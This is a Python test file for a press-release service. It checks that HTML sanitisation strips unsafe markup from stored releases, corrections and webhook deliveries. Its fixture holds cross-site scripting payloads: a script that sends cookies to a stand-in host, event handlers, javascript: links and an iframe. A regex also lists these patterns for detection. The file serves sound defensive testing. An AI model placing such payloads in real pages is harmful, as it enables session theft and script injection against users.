"""Sanitisation end to end: unsafe markup never reaches the stored release or a subscriber's webhook."""

from __future__ import annotations

import json
import re

from standardwebhooks.webhooks import Webhook

from tests.support.receiver import Receiver
from tests.support.server import PolywireServer

HOSTILE_HTML = (
    "<p>Acme opens a <strong>plant</strong> in Leipzig.</p>"
    "<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
    '<img src="https://cdn.example/plant.jpg" onerror="alert(1)">'
    '<p onclick="alert(2)">Read <a href="https://acme.example/press">the statement</a>.</p>'
    '<a href="javascript:alert(3)">click me</a>'
    '<a href="JaVaScRiPt:alert(4)">and me</a>'
    '<iframe src="https://evil.example/frame"></iframe>'
)
UNSAFE = re.compile(r"<script|</script|onerror|onclick|javascript:|<iframe|evil\.example", re.IGNORECASE)


def assert_clean(html: str) -> None:
    assert not UNSAFE.search(html), html
    # Ordinary markup and safe links survive the cleaning.
    assert "<p>Acme opens a <strong>plant</strong> in Leipzig.</p>" in html, html
    assert re.search(r'<a href="https://acme\.example/press"[^>]*>the statement</a>', html), html
    assert "click me" in html and "and me" in html, html


def test_unsafe_markup_is_removed_from_stored_and_delivered_copies(wire: PolywireServer, hooks: Receiver) -> None:
    """Scripts, on* handlers, javascript: URLs and iframes are stripped in the GET and the signed webhook."""
    created = wire.request(
        "POST",
        "/v1/subscribers",
        wire.keys["admin"],
        json={"name": "Planet", "kind": "outlet", "endpoints": [{"type": "webhook", "url": hooks.url("/planet")}]},
    )
    assert created.status_code == 201, created.text
    secret = created.json()["endpoints"][0]["secret"]
    submitted = wire.request(
        "POST",
        "/v1/releases",
        wire.keys["acme"],
        json={"headline": "Acme opens a plant", "body_html": HOSTILE_HTML, "language": "en"},
    )
    assert submitted.status_code == 201, submitted.text
    assert_clean(submitted.json()["body_html"])
    release_id = submitted.json()["id"]
    stored = wire.request("GET", f"/v1/releases/{release_id}", wire.keys["acme"])
    assert stored.status_code == 200
    assert_clean(stored.json()["body_html"])
    (hook,) = hooks.wait_for(1, path="/planet")
    payload = Webhook(secret).verify(hook.body, hook.headers)
    assert payload["data"]["uri"] == submitted.json()["uri"]
    (body,) = [b for b in json.loads(hook.body)["data"]["bodies"] if b["contenttype"] == "text/html"]
    assert_clean(body["value"])
    assert not UNSAFE.search(hook.body.decode()), "unsafe markup somewhere in the delivered document"


def test_corrections_are_sanitised_too(wire: PolywireServer, hooks: Receiver) -> None:
    """A correction's body_html goes through the same cleaning as the original, stored and delivered."""
    created = wire.request(
        "POST",
        "/v1/subscribers",
        wire.keys["admin"],
        json={
            "name": "Corrections desk",
            "kind": "outlet",
            "endpoints": [{"type": "webhook", "url": hooks.url("/corrections")}],
        },
    )
    assert created.status_code == 201, created.text
    submitted = wire.request(
        "POST",
        "/v1/releases",
        wire.keys["acme"],
        json={"headline": "Acme opens a plant", "body_html": "<p>Draft.</p>", "language": "en"},
    )
    assert submitted.status_code == 201, submitted.text
    hooks.wait_for(1, path="/corrections")
    release_id = submitted.json()["id"]
    corrected = wire.request(
        "POST",
        f"/v1/releases/{release_id}/corrections",
        wire.keys["acme"],
        json={"body_html": HOSTILE_HTML, "ednote": "Corrects the town"},
    )
    assert corrected.status_code == 201, corrected.text
    assert_clean(wire.request("GET", f"/v1/releases/{release_id}", wire.keys["acme"]).json()["body_html"])
    hooks = hooks.wait_for(2, path="/corrections")
    second = json.loads(hooks[1].body)
    assert second["type"] == "item.corrected"
    (body,) = [b for b in second["data"]["bodies"] if b["contenttype"] == "text/html"]
    assert_clean(body["value"])
